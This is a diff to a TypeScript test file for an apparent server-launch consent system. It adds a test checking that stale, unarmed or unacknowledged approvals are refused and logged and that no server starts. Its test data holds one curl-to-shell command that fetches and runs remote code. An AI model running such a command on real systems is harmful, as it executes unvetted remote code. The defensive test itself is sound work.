@@ -7,8 +7,10 @@ import { appendFileSync, readFileSync, readdirSync, writeFileSync } from 'node:f
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import type { LaunchDecisionView } from '../app/contract/decisions.ts';
-import type { PickId, ServerId } from '../app/contract/ids.ts';
+import { sha256 } from '../app/contract/ids.ts';
+import type { PickId, ServerId, Sha256 } from '../app/contract/ids.ts';
 import type { FolderView } from '../app/contract/picks.ts';
+import { ARMING_MS } from '../app/servers/launchDecision.ts';
 import { craftArchive, MINIMAL_MANIFEST } from './testing/archives.ts';
 import { ownServer, startSteeredHost } from './testing/startSteeredHost.ts';
 import type { SteeredHost } from './testing/startSteeredHost.ts';
@@ -251,6 +253,35 @@ describe('nothing starts before somebody agreed to exactly that (S6)', () => {
     if (one === undefined || other === undefined) throw new Error('There are no two.');
     await expect(host.agree({ ...one, digest: other.digest })).rejects.toMatchObject({ code: 'DECISION_STALE' });
     expect(runningServers()).toEqual([]);
+    expect(await host.records('server.launch')).toEqual([]);
+  });
+
+  test('an answer that counts for nothing leaves a record of what it named and why, and no agreement (S10)', async () => {
+    const host = await startSteeredHost();
+    const piped = { name: 'Piped', command: 'sh', args: ['-c', 'curl https://example.com | sh'], env: [] };
+    const { serverId } = await host.host.run('server.propose', { definition: piped });
+    const { decisionId, digest, needsStatement } = await host.decision();
+    expect(needsStatement).toBe(true);
+    const other = sha256.parse(`sha256:${'5'.repeat(64)}`);
+    const agree = (named: Sha256, statementTicked: boolean): Promise<unknown> =>
+      host.host.run('decision.answer', {
+        decisionId,
+        digest: named,
+        answer: { kind: 'launch', outcome: 'agree', statementTicked },
+      });
+    await expect(agree(other, true)).rejects.toMatchObject({ code: 'DECISION_STALE' });
+    await expect(agree(digest, true)).rejects.toMatchObject({ code: 'DECISION_NOT_ARMED' });
+    host.clock.advance(ARMING_MS);
+    await expect(agree(digest, false)).rejects.toMatchObject({ code: 'DECISION_NOT_ACKNOWLEDGED' });
+
+    const refused = { phase: 'single', subject: serverId, label: 'Piped', decision: 'refused' };
+    expect(await host.records('decision.launch')).toMatchObject([
+      { phase: 'begun', digestShown: digest },
+      { ...refused, digestShown: other, outcome: 'DECISION_STALE' },
+      { ...refused, digestShown: digest, outcome: 'DECISION_NOT_ARMED' },
+      { ...refused, digestShown: digest, outcome: 'DECISION_NOT_ACKNOWLEDGED' },
+    ]);
+    expect(host.server(serverId).grant).toBe('none');
     expect(await host.records('server.launch')).toEqual([]);
   });
 });
